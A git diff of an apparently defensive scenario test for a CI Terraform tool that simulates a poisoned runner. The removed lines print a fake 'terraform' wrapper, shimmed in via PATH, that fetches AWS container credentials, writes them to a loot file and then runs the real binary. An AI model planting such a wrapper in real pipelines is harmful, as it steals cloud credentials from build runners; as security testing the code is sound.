@@ -1,11 +1,9 @@
-import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
-import { delimiter, join } from 'node:path';
 import { CreateTableCommand, DynamoDBClient } from '@aws-sdk/client-dynamodb';
 import { IAMClient, UpdateAssumeRolePolicyCommand } from '@aws-sdk/client-iam';
 import { text } from '../../src/core-values/index.ts';
 import { trailReportAnswer } from '../../src/trail/core/index.ts';
 import { type AwsCredentials, assume, clientOptions } from '../stand-ins/aws-organization.ts';
-import type { RunnerJob } from '../world.ts';
+import { lootOf, poison } from './poisoned-runner.ts';
 import { type Outcome, planIdIn, type Stage, StoryBroken } from './stage.ts';
 import type { Step } from './step.ts';
 
@@ -76,7 +74,7 @@ async function reconciled(stage: Stage): Promise<{ readonly report: Report; read
   return { report: trailReportAnswer.parse(JSON.parse(outcome.output.slice(from))), outcome };
 }
 
-/** A `terraform` that somebody slipped into the runner: it copies the credentials of the apply and then does what is expected. */
+/** Another apply on a poisoned runner, and what the thief does with its credentials. */
 async function stolenDuringAnApply(stage: Stage): Promise<string> {
   const { world } = stage;
   const commit = await world.repository.commitFiles(
@@ -90,7 +88,7 @@ async function stolenDuringAnApply(stage: Stage): Promise<string> {
   const plan = planIdIn(planned);
   const approved = await stage.person('hanako', 'approve', plan, '--yes');
   stage.expect(approved.exitCode === 0, text('An approved change.', '承認済みの変更です。'), approved);
-  const { poisoned, loot } = await poisonedRunner(stage, job);
+  const poisoned = await poison(stage, job, STACK);
   const applied = await stage.ci(poisoned, 'ci', 'apply', '--stack', STACK, '--plan', plan);
   stage.expect(
     applied.exitCode === 0,
@@ -100,8 +98,7 @@ async function stolenDuringAnApply(stage: Stage): Promise<string> {
     ),
     applied,
   );
-  const stolen: AwsCredentials = JSON.parse(await readFile(loot, 'utf8'));
-  const made = await tryTable(stage, stolen, 'loot');
+  const made = await tryTable(stage, await lootOf(stage, STACK).credentials(), 'loot');
   stage.say(
     made
       ? text('The thief made a table of their own.', '泥棒は自分のテーブルを作りました。')
@@ -116,31 +113,6 @@ async function stolenDuringAnApply(stage: Stage): Promise<string> {
       ({ request, sessionName }) => request?.operation === 'CreateTable' && sessionName !== undefined,
     )?.sessionName;
   return name ?? '';
-}
-
-async function poisonedRunner(
-  stage: Stage,
-  job: RunnerJob,
-): Promise<{ readonly poisoned: RunnerJob; readonly loot: string }> {
-  const folder = join(stage.directory, 'poisoned');
-  await mkdir(folder, { recursive: true });
-  const loot = join(folder, 'loot.json');
-  const script = `#!${process.execPath}
-const { AWS_CONTAINER_CREDENTIALS_FULL_URI: url, AWS_CONTAINER_AUTHORIZATION_TOKEN: authorization } = process.env;
-if (url !== undefined) {
-  const { AccessKeyId, SecretAccessKey, Token } = await (await fetch(url, { headers: { authorization } })).json();
-  const stolen = { accessKeyId: AccessKeyId, secretAccessKey: SecretAccessKey, sessionToken: Token };
-  (await import('node:fs')).writeFileSync(${JSON.stringify(loot)}, JSON.stringify(stolen));
-}
-const { spawnSync } = await import('node:child_process');
-process.exitCode = spawnSync(${JSON.stringify(stage.world.tools.terraform)}, process.argv.slice(2), { stdio: 'inherit' }).status ?? 1;
-`;
-  const terraform = join(folder, 'terraform');
-  await writeFile(terraform, script);
-  await chmod(terraform, 0o755);
-  await writeFile(join(folder, 'package.json'), '{"type":"module"}');
-  const env = { ...job.env, PATH: `${folder}${delimiter}${job.env.PATH ?? ''}` };
-  return { poisoned: { ...job, env }, loot };
 }
 
 async function tryTable(stage: Stage, credentials: AwsCredentials, name: string): Promise<boolean> {
